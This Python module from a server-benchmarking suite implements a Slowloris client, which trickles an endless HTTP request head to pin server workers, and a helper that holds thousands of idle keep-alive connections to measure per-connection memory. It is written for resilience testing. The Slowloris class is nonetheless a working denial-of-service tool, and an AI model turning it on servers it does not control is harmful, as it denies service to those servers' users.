"""Adversarial clients: connections that cost a server without asking it for work.

``Slowloris`` trickles a request head that never ends, one byte at a time,
to see whether a server times out slow clients or lets them pin its workers.
``IdleConnections`` (``idle_connections``) opens many keep-alive connections,
completes one request on each and then holds them idle, to measure what an
idle connection costs a server (the C10K question). A scenario runs them
beside ``run_load`` and asks whether normal clients are still served.
"""

from __future__ import annotations

import contextlib
import errno
import logging
import os
import select
import socket
import threading
import time
from dataclasses import dataclass
from types import TracebackType
from typing import Any, Mapping

from comparisons.childproc import raise_fd_limit
from comparisons.load_result import ERROR_KINDS
from comparisons.loadgen.framing import ProtocolError, ResponseParser, new_statuses
from comparisons.loadgen.request import build_request, parse_url

log = logging.getLogger(__name__)


@dataclass
class SlowlorisStats:
    """What a ``Slowloris`` did: a server that defends itself shows ``closed_by_server``."""

    opened: int = 0
    failed: int = 0
    bytes_sent: int = 0
    closed_by_server: int = 0
    responses: int = 0


class Slowloris:
    """Hold ``connections`` connections open by trickling a request head, one byte per ``interval``.

    The head never ends (after the request line and Host it repeats
    ``X-Slow: a`` header lines), so a server with no header timeout keeps a
    connection (and, for thread- or process-per-connection models, a worker)
    busy forever. A scenario runs this in the background while measuring
    normal clients with ``run_load`` and asks: are they still served?

    ``start()`` dials every connection in parallel (non-blocking, so a server
    whose listen backlog is full costs ``connect_timeout`` once, not once per
    connection) and returns when they are connected or failed; a background
    thread then trickles. It is bounded: the thread stops after ``duration``
    seconds, or once every connection has sent ``max_bytes`` bytes, or when
    no connection is left (with ``reopen`` off). ``reopen=True`` replaces
    connections the server closes, as a real attacker would. ``stop()`` (or
    leaving the ``with`` block) closes everything.
    """

    def __init__(
        self,
        url: str,
        connections: int = 50,
        interval: float = 1.0,
        duration: float = 30.0,
        max_bytes: int | None = None,
        reopen: bool = False,
        connect_timeout: float = 5.0,
    ) -> None:
        self.target = parse_url(url)
        self.connections = connections
        self.interval = interval
        self.duration = duration
        self.max_bytes = max_bytes
        self.reopen = reopen
        self.connect_timeout = connect_timeout
        self.stats = SlowlorisStats()
        self.sockets: dict[int, socket.socket] = {}  # every socket we hold, dialling or connected
        self._dialling: dict[int, float] = {}  # fd -> connect deadline
        self._progress: dict[int, int] = {}  # connected fd -> bytes of the head sent so far
        self._prefix = f"GET {self.target.path} HTTP/1.1\r\nHost: {self.target.host_header}\r\n".encode("latin-1")
        self._filler = b"X-Slow: a\r\n"
        self._ep = select.epoll()
        self._wake_r, self._wake_w = os.pipe()
        self._ep.register(self._wake_r, select.EPOLLIN)
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    def _byte(self, index: int) -> bytes:
        prefix = self._prefix
        if index < len(prefix):
            return prefix[index : index + 1]
        index = (index - len(prefix)) % len(self._filler)
        return self._filler[index : index + 1]

    def _dial(self) -> None:
        sock = socket.socket(self.target.family, socket.SOCK_STREAM)
        sock.setblocking(False)
        err = sock.connect_ex(self.target.sockaddr)
        if err and err != errno.EINPROGRESS:
            log.debug("slowloris connect failed: %s", os.strerror(err))
            sock.close()
            self.stats.failed += 1
            return
        fd = sock.fileno()
        self.sockets[fd] = sock
        self._dialling[fd] = time.perf_counter() + self.connect_timeout
        self._ep.register(fd, select.EPOLLOUT)

    def _drop(self, fd: int) -> None:
        sock = self.sockets.pop(fd)
        self._progress.pop(fd, None)
        self._dialling.pop(fd, None)
        self._ep.unregister(fd)
        sock.close()

    def _expire_dials(self, now: float) -> None:
        for fd, deadline in list(self._dialling.items()):
            if deadline <= now:
                self.stats.failed += 1
                self._drop(fd)

    def _handle(self, fd: int) -> None:
        """One epoll event on a held socket: a finished dial, or the server talking/closing."""
        sock = self.sockets[fd]
        if fd in self._dialling:
            del self._dialling[fd]
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                self.stats.failed += 1
                self._drop(fd)
                return
            self.stats.opened += 1
            self._progress[fd] = 0
            self._ep.modify(fd, select.EPOLLIN)
            return
        try:
            data = sock.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data:
            # A server that answers (408, 400) before closing.
            self.stats.responses += data.count(b"HTTP/1.")
            return
        self.stats.closed_by_server += 1
        self._drop(fd)
        if self.reopen and not self._stop.is_set():
            self._dial()

    def start(self) -> "Slowloris":
        """Dial the connections, wait (at most ``connect_timeout``) until they are up, start trickling."""
        raise_fd_limit(self.connections + 64)
        for _ in range(self.connections):
            self._dial()
        while self._dialling:
            now = time.perf_counter()
            self._expire_dials(now)
            wait = min(self._dialling.values(), default=now) - now
            for fd, _ in self._ep.poll(max(0.0, wait)):
                if fd != self._wake_r:
                    self._handle(fd)
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)
        self._thread.start()
        return self

    def _run(self) -> None:
        perf = time.perf_counter
        end = perf() + self.duration
        next_tick = perf()
        while not self._stop.is_set():
            now = perf()
            if now >= end or not self.sockets:
                return
            self._expire_dials(now)
            if now >= next_tick:
                busy = bool(self._dialling)
                for fd, sent in list(self._progress.items()):
                    if self.max_bytes is not None and sent >= self.max_bytes:
                        continue
                    busy = True
                    try:
                        written = self.sockets[fd].send(self._byte(sent))
                    except BlockingIOError:
                        continue
                    except OSError:
                        continue  # reset by the server: the read side reports it
                    self._progress[fd] = sent + written
                    self.stats.bytes_sent += written
                if not busy:
                    return  # every connection sent its max_bytes
                next_tick = max(next_tick + self.interval, now)
            for fd, _ in self._ep.poll(max(0.0, min(next_tick, end) - perf())):
                if fd == self._wake_r:
                    return
                self._handle(fd)

    def wait(self, timeout: float | None = None) -> bool:
        """Wait for the trickling to end by itself (its bounds); True if it has."""
        if self._thread is not None:
            self._thread.join(timeout)
            return not self._thread.is_alive()
        return True

    @property
    def open_count(self) -> int:
        """Connections currently established (dials in progress excluded)."""
        return len(self._progress)

    def stop(self) -> SlowlorisStats:
        """Stop trickling, close every connection, return the stats."""
        self._stop.set()
        with contextlib.suppress(OSError):
            os.write(self._wake_w, b"x")
        if self._thread is not None:
            self._thread.join(self.interval + 10)
        for fd in list(self.sockets):
            self._drop(fd)
        if not self._ep.closed:
            self._ep.close()
            os.close(self._wake_r)
            os.close(self._wake_w)
        return self.stats

    def __enter__(self) -> "Slowloris":
        return self.start()

    def __exit__(self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None) -> None:
        self.stop()


class IdleConnections:
    """Open ``count`` keep-alive connections, complete one request on each, then hold them idle.

    Used to measure what an idle connection costs a server (RSS per
    connection, the C10K question): compare the server's memory before and
    inside the ``with`` block. Connections are dialled ``batch`` at a time so
    a burst does not overflow the server's listen backlog; the soft
    RLIMIT_NOFILE is raised as needed. Failures are counted in ``errors``
    (same kinds as ``LoadResult``), not raised, and every phase is bounded by
    ``timeout`` per socket.
    """

    def __init__(
        self,
        url: str,
        count: int,
        *,
        headers: Mapping[str, str] | None = None,
        timeout: float = 10.0,
        batch: int = 256,
    ) -> None:
        self.target = parse_url(url)
        self.count = count
        self.request = build_request(self.target, "GET", headers)
        self.timeout = timeout
        self.batch = batch
        self.sockets: list[socket.socket] = []
        self.errors = dict.fromkeys(ERROR_KINDS, 0)
        self.status_counts: dict[int, int] = {}

    def open(self) -> "IdleConnections":
        """Dial, request, read one response per connection; keep the ones that stay open."""
        raise_fd_limit(self.count + len(self.sockets) + 64)
        ep = select.epoll()
        statuses = new_statuses()
        live: dict[int, tuple[socket.socket, ResponseParser, list[float]]] = {}
        to_open = self.count
        perf = time.perf_counter

        def finish(fd: int, kind: str | None) -> None:
            sock = live.pop(fd)[0]
            ep.unregister(fd)
            if kind is None:
                self.sockets.append(sock)
            else:
                self.errors[kind] += 1
                sock.close()

        try:
            while to_open or live:
                while to_open and len(live) < self.batch:
                    to_open -= 1
                    sock = socket.socket(self.target.family, socket.SOCK_STREAM)
                    sock.setblocking(False)
                    err = sock.connect_ex(self.target.sockaddr)
                    if err and err != errno.EINPROGRESS:
                        sock.close()
                        self.errors["connect"] += 1
                        continue
                    live[sock.fileno()] = (sock, ResponseParser(), [perf() + self.timeout])
                    ep.register(sock.fileno(), select.EPOLLOUT)
                now = perf()
                for fd in [fd for fd, (_, _, dl) in live.items() if dl[0] <= now]:
                    finish(fd, "timeout")
                for fd, ev in ep.poll(0.05):
                    sock, parser, deadline = live[fd]
                    deadline[0] = perf() + self.timeout
                    if ev & select.EPOLLOUT:
                        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                            finish(fd, "connect")
                            continue
                        ep.modify(fd, select.EPOLLIN)
                        try:
                            sock.sendall(self.request)  # tiny: fits the empty send buffer
                        except OSError:
                            finish(fd, "read")
                        continue
                    try:
                        data = sock.recv(65536)
                    except BlockingIOError:
                        continue
                    except OSError:
                        data = b""
                    if not data:
                        finish(fd, "read")
                        continue
                    if parser.pending:
                        data = parser.pending + data
                        parser.pending = b""
                    try:
                        done = parser.feed(data, len(data), statuses)
                    except ProtocolError:
                        finish(fd, "read")
                        continue
                    if done:
                        # A connection the server will close cannot be held idle.
                        finish(fd, "read" if parser.closing or done > 1 else None)
        finally:
            for fd in list(live):
                finish(fd, "timeout")
            ep.close()
        for code, n in enumerate(statuses):
            if n:
                self.status_counts[code] = self.status_counts.get(code, 0) + n
        self.errors["status"] = sum(n for code, n in self.status_counts.items() if not 200 <= code < 300)
        log.info("holding %d idle connections to %s:%d (errors %s)", len(self.sockets), self.target.host, self.target.port, self.errors)
        return self

    def close(self) -> None:
        """Close every held connection."""
        for sock in self.sockets:
            sock.close()
        self.sockets.clear()

    def __len__(self) -> int:
        return len(self.sockets)

    def __enter__(self) -> "IdleConnections":
        return self.open()

    def __exit__(self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None) -> None:
        self.close()


def idle_connections(url: str, count: int, **kwargs: Any) -> IdleConnections:
    """``with idle_connections(url, 10_000) as held: ...``: see ``IdleConnections``."""
    return IdleConnections(url, count, **kwargs)
